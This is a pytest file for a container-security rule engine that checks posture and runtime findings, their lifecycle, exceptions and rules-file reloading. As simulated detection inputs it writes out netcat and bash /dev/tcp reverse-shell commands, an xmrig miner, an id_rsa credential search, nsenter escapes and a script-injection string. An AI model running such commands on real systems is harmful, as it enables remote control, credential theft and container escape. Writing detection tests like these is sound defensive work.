# SPDX-License-Identifier: Apache-2.0
"""The rule engine end to end, with a scripted agent: posture and runtime
findings written with their evidence in the batch's transaction, their
lifecycle (opened, counted, fixed, stopped, reopened, removed), the finding
events on the container's timeline, unknown inputs counted and never raised,
and rules switched off. Real containers: test_rules_containers.py."""

import pytest

import vigiltest as vt


@pytest.fixture(scope="module")
def coll(module_collector_factory, module_db):
    return module_collector_factory(module_db)


def risky_container(cid, **kw):
    """A container started with most of what the posture rules look for."""
    E, _ = vt.pb()
    e = vt.container_started_event(
        cid, "risky", privileged=kw.get("privileged", True),
        caps=["CAP_CHOWN", "CAP_SYS_ADMIN", "CAP_NET_ADMIN"],
        mounts=[("/", "/host", False), ("/var/run/docker.sock", "/var/run/docker.sock", False),
                ("/etc", "/host-etc", True), ("/srv/data", "/data", False)],
        image="docker.io/library/nginx:latest")
    c = e.container_started.container
    c.host_pid = True
    c.seccomp_mode = E.SECCOMP_MODE_DISABLED
    c.no_new_privs = E.TRISTATE_FALSE
    c.memory_limit.unlimited = True
    c.pids_limit.value = 100
    c.restart_policy = "always"
    c.read_only_rootfs = False
    return e


def findings(db, agent_name, cid=None):
    sql = ("SELECT f.rule, f.key, f.state, f.count, f.severity, f.evidence_seq, "
           "f.evidence_idx, f.last_seq, f.last_idx, f.resolved_reason, f.kind, f.summary "
           "FROM findings f JOIN agents a ON a.id = f.agent_id WHERE a.name = %s")
    args = [agent_name]
    if cid:
        sql += " AND f.container_id = %s"
        args.append(cid)
    rows = db.query(sql + " ORDER BY f.rule, f.key", args)
    return {(r[0], r[1]): dict(zip(("state", "count", "severity", "seq", "idx", "lseq",
                                    "lidx", "reason", "kind", "summary"), r[2:]))
            for r in rows}


def finding_events(db, agent_name, cid):
    return db.query(
        "SELECT e.details->>'rule', e.details->>'key', e.details->>'action', "
        "e.details->>'reason', (e.details->'evidence'->>'seq')::bigint, "
        "(e.details->'evidence'->>'idx')::int, e.seq "
        "FROM events e JOIN agents a ON a.id = e.agent_id "
        "WHERE a.name = %s AND e.kind = 6 AND e.container_id = %s "
        "ORDER BY e.ts, -e.seq", (agent_name, cid))


def test_posture_findings_with_evidence_and_lifecycle(coll, module_db, agent):
    db = module_db
    cid = "a1" * 32
    a = agent(coll.port, "rules-posture")
    a.hello()
    a.batch(1, [vt.exec_event(10, ["/bin/true"]), risky_container(cid)])
    f = findings(db, "rules-posture", cid)
    want = {("privileged", ""), ("runtime_socket", "/var/run/docker.sock"),
            ("sensitive_mount", "/"), ("sensitive_mount", "/etc"), ("host_pid", ""),
            ("seccomp_unconfined", ""), ("no_memory_limit", ""), ("no_new_privs_unset", ""),
            ("restart_policy", ""), ("rootfs_writable", ""), ("run_as_root", ""),
            ("image_mutable_tag", "docker.io/library/nginx:latest")}
    assert want <= set(f), sorted(f)
    # privileged covers the capabilities; /srv/data is not sensitive; a
    # pids limit is set
    assert not {k for k in f if k[0] in ("cap_added", "no_pids_limit")}
    assert ("sensitive_mount", "/srv/data") not in f
    for k in want:
        assert f[k]["state"] == "open" and f[k]["kind"] == "posture"
        assert (f[k]["seq"], f[k]["idx"]) == (1, 1), k  # the ContainerStarted event
    assert f[("privileged", "")]["severity"] == 5
    assert "writable" in f[("sensitive_mount", "/")]["summary"]
    assert "read-only" in f[("sensitive_mount", "/etc")]["summary"]
    opened = finding_events(db, "rules-posture", cid)
    assert len(opened) == len(f)
    assert all(ev[2] == "opened" and (ev[4], ev[5]) == (1, 1) and ev[6] < 0 for ev in opened)

    # The same settings again: nothing new, nothing resolved, no events.
    changed = risky_container(cid)
    a.batch(2, [changed])
    assert findings(db, "rules-posture", cid) == f
    assert len(finding_events(db, "rules-posture", cid)) == len(f)

    # Not privileged any more: that finding is fixed, the capabilities show.
    fixed = risky_container(cid, privileged=False)
    a.batch(3, [fixed])
    f3 = findings(db, "rules-posture", cid)
    assert f3[("privileged", "")]["state"] == "resolved"
    assert f3[("privileged", "")]["reason"] == "setting fixed"
    assert f3[("cap_added", "SYS_ADMIN")]["state"] == "open"
    assert f3[("cap_added", "NET_ADMIN")]["state"] == "open"
    assert ("cap_added", "CHOWN") not in f3  # in the runtime's default set

    # Stopped: still there, its findings stay open.
    a.batch(4, [vt.container_stopped_event(cid, 0)])
    f4 = findings(db, "rules-posture", cid)
    for k in f3:
        assert {x: f4[k][x] for x in f4[k] if x != "count"} == \
            {x: f3[k][x] for x in f3[k] if x != "count"}, k

    # A full inventory without it: removed, every finding resolved.
    E, _ = vt.pb()
    inv = E.Event()
    inv.time_ns = vt.now_ns()
    inv.kind = E.EVENT_KIND_INVENTORY
    inv.inventory.full = True
    a.batch(5, [inv])
    f5 = findings(db, "rules-posture", cid)
    assert {v["state"] for v in f5.values()} == {"resolved"}
    assert {v["reason"] for k, v in f5.items() if k != ("privileged", "")} == {
        "container removed"}

    # Back again, privileged: reopened, with the new evidence.
    a.batch(6, [risky_container(cid)])
    f6 = findings(db, "rules-posture", cid)
    assert f6[("privileged", "")]["state"] == "reopened"
    assert (f6[("privileged", "")]["lseq"], f6[("privileged", "")]["lidx"]) == (6, 0)
    assert (f6[("privileged", "")]["seq"], f6[("privileged", "")]["idx"]) == (1, 1)
    assert f6[("host_pid", "")]["state"] == "reopened"
    events = finding_events(db, "rules-posture", cid)
    actions = [(ev[0], ev[2]) for ev in events]
    assert actions.count(("privileged", "opened")) == 1
    assert actions.count(("privileged", "resolved")) == 1  # fixed; the removal found it so
    assert actions.count(("privileged", "reopened")) == 1
    assert actions.count(("host_pid", "resolved")) == 1  # the removal
    reasons = [ev[3] for ev in events if ev[0] == "host_pid" and ev[2] == "resolved"]
    assert reasons == ["container removed"]
    a.close()


def test_runtime_findings_count_and_keys(coll, module_db, agent):
    db = module_db
    cid = "b2" * 32
    a = agent(coll.port, "rules-runtime")
    a.hello()
    a.batch(1, [vt.hardened_container_event(cid, "app")])
    E, _ = vt.pb()
    shell = vt.exec_event(21, ["sh", "-i"], exe="/bin/busybox", container_id=cid)
    shell.process_exec.tty = E.TRISTATE_TRUE
    piped = vt.exec_event(22, ["sh", "-c", "date"], exe="/bin/sh", container_id=cid)
    piped.process_exec.tty = E.TRISTATE_FALSE
    memfd = vt.exec_event(23, ["x"], exe="/memfd:payload (deleted)", container_id=cid)
    drift = vt.exec_event(24, ["tool"], exe="/usr/local/bin/tool", container_id=cid)
    drift.process_exec.exe_upper_layer = E.TRISTATE_TRUE
    session = vt.exec_event(25, ["ls"], exe="/bin/ls", container_id=cid)
    session.process_exec.exec_session = E.TRISTATE_TRUE
    evs = [
        shell, piped, memfd, drift, session,
        vt.exec_event(30, ["/dev/shm/x"], container_id=cid),
        vt.exec_event(31, ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], exe="/bin/nc",
                      container_id=cid),
        vt.exec_event(32, ["bash", "-i"], exe="/bin/bash", container_id=cid),  # no /dev/tcp
        vt.exec_event(33, ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                      exe="/bin/bash", container_id=cid),
        vt.exec_event(34, ["xmrig", "--donate-level", "1"], exe="/tmp/.x/xmrig",
                      container_id=cid),
        vt.exec_event(35, ["find", "/", "-name", "id_rsa"], exe="/usr/bin/find",
                      container_id=cid),
        vt.exec_event(36, ["grep", "-r", "root", "/etc/group"], exe="/bin/grep",
                      container_id=cid),
        vt.exec_event(37, ["apt-get", "install", "curl"], exe="/usr/bin/apt-get",
                      container_id=cid),
        vt.exec_event(38, ["nsenter", "-t", "1", "-m"], exe="/usr/bin/nsenter",
                      container_id=cid),
        vt.exec_event(39, ["apt-get", "update"], exe="/usr/bin/apt-get", container_id=cid),
        vt.exec_event(40, ["apt-get", "-y", "upgrade"], exe="/usr/bin/apt-get"),  # the node
    ]
    a.batch(2, evs)
    f = findings(db, "rules-runtime", cid)
    runtime = {k: v for k, v in f.items() if v["kind"] == "runtime"}
    assert set(runtime) == {
        ("terminal_shell", "sh"), ("fileless_exec", "/memfd:payload (deleted)"),
        ("drift", "/usr/local/bin/tool"), ("exec_session", ""),
        ("exec_from_tmp", "/dev/shm/x"), ("exec_from_tmp", "/tmp/.x/xmrig"),
        ("reverse_shell", "nc"), ("reverse_shell", "bash"), ("crypto_miner", "xmrig"),
        ("credential_search", "find"), ("package_manager", "apt-get"),
        ("escape_tool", "nsenter")}, sorted(runtime)
    pm = runtime[("package_manager", "apt-get")]
    assert pm["count"] == 2 and (pm["seq"], pm["idx"]) == (2, 12)
    assert (pm["lseq"], pm["lidx"]) == (2, 14)
    assert runtime[("crypto_miner", "xmrig")]["severity"] == 5
    # the hardened container itself raised nothing
    assert not [k for k, v in f.items() if v["kind"] == "posture"]

    a.batch(3, [vt.exec_event(41, ["apt-get", "install", "nmap"], exe="/usr/bin/apt-get",
                              container_id=cid)])
    assert findings(db, "rules-runtime", cid)[("package_manager", "apt-get")]["count"] == 3
    events = finding_events(db, "rules-runtime", cid)
    assert sum(1 for ev in events if ev[0] == "package_manager") == 1  # opened once
    a.close()


def test_unknown_inputs_raise_nothing_and_are_counted(coll, module_db, agent):
    db = module_db
    cid = "c3" * 32
    E, _ = vt.pb()
    e = vt.container_started_event(cid, "mystery", privileged=True)
    c = e.container_started.container
    c.unknown_facts.extend(["privileged", "host_pid", "mounts", "restart_policy"])
    c.user_known = False
    a = agent(coll.port, "rules-unknown")
    a.hello()
    a.batch(1, [e])
    f = findings(db, "rules-unknown", cid)
    assert not {k for k in f if k[0] in ("privileged", "host_pid", "run_as_root",
                                         "sensitive_mount", "runtime_socket",
                                         "restart_policy")}
    # stored as unknown (NULL), not as false
    assert db.query("SELECT privileged, host_pid, mounts, restart_policy FROM containers "
                    "WHERE id = %s", (cid,)) == [(None, None, None, None)]
    unknown = db.scalar("SELECT rules_unknown FROM containers WHERE id = %s", (cid,))
    for rule in ("privileged", "host_pid", "run_as_root", "sensitive_mount", "runtime_socket",
                 "restart_policy", "no_memory_limit", "no_pids_limit", "no_new_privs_unset",
                 "terminal_shell" if False else "seccomp_unconfined"):
        assert rule in unknown, (rule, unknown)
    # a shell whose tty is unknown raises nothing
    a.batch(2, [vt.exec_event(5, ["sh"], exe="/bin/sh", container_id=cid)])
    assert ("terminal_shell", "sh") not in findings(db, "rules-unknown", cid)
    a.close()


def test_hostile_strings_stay_text(coll, module_db, agent):
    db = module_db
    cid = "d4" * 32
    a = agent(coll.port, "rules-hostile")
    a.hello()
    evil = "<script>alert(1)</script>\x1b[31m\u202e\n"
    e = vt.container_started_event(cid, evil, privileged=True,
                                   mounts=[("/etc/" + evil, "/x", False)])
    a.batch(1, [e, vt.exec_event(7, ["nsenter", evil], exe="/tmp/" + evil, container_id=cid)])
    f = findings(db, "rules-hostile", cid)
    keys = [k for k in f if k[0] in ("sensitive_mount", "exec_from_tmp")]
    assert len(keys) == 2
    for rule, key in keys:
        assert "\x1b" not in key and "\n" not in key  # control characters replaced
        assert "<script>" in key  # kept as text, escaped where shown
    a.close()


def test_rules_off_store_only(module_collector_factory, db, agent):
    coll = module_collector_factory(db, {"--rules": "false"})
    a = agent(coll.port, "rules-off")
    a.hello()
    a.batch(1, [risky_container("e5" * 32),
                vt.exec_event(1, ["xmrig"], exe="/tmp/xmrig", container_id="e5" * 32)])
    assert db.scalar("SELECT count(*) FROM findings") == 0
    assert db.scalar("SELECT count(*) FROM events WHERE kind = 6") == 0
    assert db.scalar("SELECT count(*) FROM events") == 2
    a.close()


RULES_FILE = """
# rule settings, exceptions and the registry allow-list
rules:
  package_manager:
    enabled: false
  run_as_root:
    severity: low
registries:
  - registry.example
  - docker.io/library
exceptions:
  - rule: privileged
    reason: the node exporter needs the host's view
    image: "quay.io/prometheus/*"
  - rule: "*"
    reason: a lab agent
    agent: "lab-*"
  - rule: crypto_miner
    reason: the mining benchmark
    label: "purpose=bench*"
  - rule: escape_tool
    reason: expired exception
    container: "debug-*"
    expires: 2020-01-01
"""


def test_rules_file_exceptions_and_reload(module_collector_factory, db, agent, workdir):
    import os
    import signal
    path = os.path.join(workdir, "rules-%d.yaml" % os.getpid())
    with open(path, "w") as f:
        f.write(RULES_FILE)
    coll = module_collector_factory(db, {"--rules-file": path})
    E, _ = vt.pb()

    a = agent(coll.port, "node-1")
    a.hello()
    exporter = vt.container_started_event("f1" * 32, "exporter", privileged=True,
                                          image="quay.io/prometheus/node-exporter:v1")
    bench = vt.container_started_event("f2" * 32, "debug-miner",
                                       image="registry.example/bench@sha256:" + "00" * 32)
    lab = bench.container_started.container.labels.add()
    lab.key, lab.value = "purpose", "benchmark"
    a.batch(1, [exporter, bench,
                vt.exec_event(1, ["xmrig"], exe="/usr/bin/xmrig", container_id="f2" * 32),
                vt.exec_event(2, ["nsenter", "-t", "1"], exe="/usr/bin/nsenter",
                              container_id="f2" * 32),
                vt.exec_event(3, ["apt-get", "install", "x"], exe="/usr/bin/apt-get",
                              container_id="f2" * 32)])
    f1 = findings(db, "node-1", "f1" * 32)
    f2 = findings(db, "node-1", "f2" * 32)
    assert ("privileged", "") not in f1  # excepted by image
    assert ("image_registry", "quay.io") in f1  # not on the allow-list
    assert f1[("run_as_root", "")]["severity"] == 2  # re-rated low
    assert ("crypto_miner", "xmrig") not in f2  # excepted by label
    assert ("escape_tool", "nsenter") in f2  # the exception has expired
    assert ("package_manager", "apt-get") not in f2  # switched off
    assert not [k for k in f2 if k[0] == "image_registry"]
    a.close()

    # Reconnected, the agent replays an exec before any inventory: the
    # collector still knows the container's labels, and the exception holds.
    a = agent(coll.port, "node-1")
    a.hello()
    a.batch(2, [vt.exec_event(9, ["xmrig", "-o", "pool"], exe="/usr/bin/xmrig",
                              container_id="f2" * 32)])
    assert ("crypto_miner", "xmrig") not in findings(db, "node-1", "f2" * 32)
    a.batch(3, [vt.exec_event(10, ["xmrig"], exe="/usr/bin/xmrig", container_id="f9" * 32)])
    assert ("crypto_miner", "xmrig") in findings(db, "node-1", "f9" * 32)  # not excepted
    a.close()

    lab_agent = agent(coll.port, "lab-7")
    lab_agent.hello()
    lab_agent.batch(1, [risky_container("f3" * 32)])
    assert findings(db, "lab-7") == {}  # every rule excepted for lab-* agents
    lab_agent.close()

    # A malformed file on SIGHUP: refused with its line, the rules in force stay.
    with open(path, "w") as f:
        f.write("rules:\n  privileged:\n    enabled: maybe\n")
    off = coll.log_size()
    coll.signal(signal.SIGHUP)
    vt.wait_for(lambda: "keeping the rules in force" in coll.log_since(off), 10,
                what="reload refused")
    assert ":3:14: expected true or false" in coll.log_since(off)
    b = agent(coll.port, "node-2")
    b.hello()
    b.batch(1, [vt.exec_event(4, ["apt-get", "update"], exe="/usr/bin/apt-get",
                              container_id="f4" * 32)])
    assert findings(db, "node-2") == {}  # package_manager still off

    # A good file on SIGHUP: in force for the next batch.
    with open(path, "w") as f:
        f.write("rules:\n  escape_tool:\n    severity: critical\n")
    off = coll.log_size()
    coll.signal(signal.SIGHUP)
    vt.wait_for(lambda: "rules_file %s" % path in coll.log_since(off), 10, what="reload")
    b.batch(2, [vt.exec_event(5, ["apt-get", "update"], exe="/usr/bin/apt-get",
                              container_id="f4" * 32),
                vt.exec_event(6, ["nsenter"], exe="/usr/bin/nsenter", container_id="f4" * 32)])
    f4 = findings(db, "node-2")
    assert ("package_manager", "apt-get") in f4
    assert f4[("escape_tool", "nsenter")]["severity"] == 5

    # A rule switched off: its open finding is resolved as such, not as a
    # fixed setting.
    b.batch(3, [risky_container("f5" * 32)])
    assert findings(db, "node-2", "f5" * 32)[("privileged", "")]["state"] == "open"
    with open(path, "w") as f:
        f.write("rules:\n  privileged:\n    enabled: false\n")
    off = coll.log_size()
    coll.signal(signal.SIGHUP)
    vt.wait_for(lambda: "rules_file %s" % path in coll.log_since(off), 10, what="reload")
    b.batch(4, [risky_container("f5" * 32)])
    f5 = findings(db, "node-2", "f5" * 32)
    assert (f5[("privileged", "")]["state"], f5[("privileged", "")]["reason"]) == (
        "resolved", "rule off or excepted")
    assert f5[("host_pid", "")]["state"] == "open"
    b.close()


def test_rules_check_and_list(collector_bin, workdir):
    import os
    import subprocess
    good = os.path.join(workdir, "good-rules.yaml")
    with open(good, "w") as f:
        f.write(RULES_FILE)
    out = subprocess.run([collector_bin, "rules", "check", good], capture_output=True,
                         text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    assert "4 exceptions, 2 allowed registries" in out.stdout
    listing = subprocess.run([collector_bin, "rules", "list", "--rules-file", good],
                             capture_output=True, text=True, timeout=30)
    assert listing.returncode == 0
    lines = listing.stdout.splitlines()
    assert any(l.split()[:4] == ["package_manager", "runtime", "medium", "no"] for l in lines)
    assert any(l.split()[:4] == ["run_as_root", "posture", "low", "yes"] for l in lines)
    assert sum(1 for l in lines if l.startswith("exception (line ")) == 4
    bad = {
        "rules:\n  no_such_rule: {enabled: false}\n": ":2:3: unknown rule",
        "exceptions:\n  - rule: privileged\n    reason: r\n    image: " + "x" * 300 + "\n":
            ":4:12: image is longer than 256 bytes",
        "exceptions:\n  - {rule: privileged, reason: a, image: x}\n"
        "  - {rule: privileged, reason: b, image: x}\n": ":3:5: the same exception as on line 2",
        "registries: &r [*r]\n": ":1:13: aliases are not allowed",
        "rules: [\n": ":2:1:",
        "exceptions:\n  - rule: privileged\n    reason: r\n": "needs a selector",
    }
    for text, want in bad.items():
        path = os.path.join(workdir, "bad-rules.yaml")
        with open(path, "w") as f:
            f.write(text)
        out = subprocess.run([collector_bin, "rules", "check", path], capture_output=True,
                             text=True, timeout=30)
        assert out.returncode == 1 and want in out.stderr, (text, out.stderr)


def test_unknown_later_keeps_the_finding(coll, module_db, agent):
    """A source that stops answering makes a fact unknown: that is not a
    fixed setting, the finding stays open."""
    db = module_db
    cid = "a7" * 32
    a = agent(coll.port, "rules-flap")
    a.hello()
    a.batch(1, [vt.container_started_event(cid, "flap", privileged=True)])
    assert findings(db, "rules-flap", cid)[("privileged", "")]["state"] == "open"
    later = vt.container_started_event(cid, "flap", privileged=False)
    later.container_started.container.unknown_facts.append("privileged")
    a.batch(2, [later])
    f = findings(db, "rules-flap", cid)
    assert f[("privileged", "")]["state"] == "open"
    assert "privileged" in db.scalar("SELECT rules_unknown FROM containers WHERE id = %s",
                                     (cid,))
    a.close()


def test_long_container_id_is_refused_not_stored(coll, module_db, agent):
    """A container id longer than the collector takes is refused with the
    event (a dead letter), and the agent's other events are stored."""
    db = module_db
    a = agent(coll.port, "rules-longid")
    a.hello()
    long_id = "f" * 300
    a.batch(1, [vt.container_started_event(long_id, "long", privileged=True),
                vt.exec_event(1, ["/bin/true"])])
    assert db.scalar("SELECT count(*) FROM findings WHERE container_id = %s", (long_id,)) == 0
    assert db.scalar("SELECT count(*) FROM dead_letters d JOIN agents g ON g.id = d.agent_id "
                     "WHERE g.name = 'rules-longid'") == 1
    assert len(db.events_of("rules-longid")) == 1
    a.close()
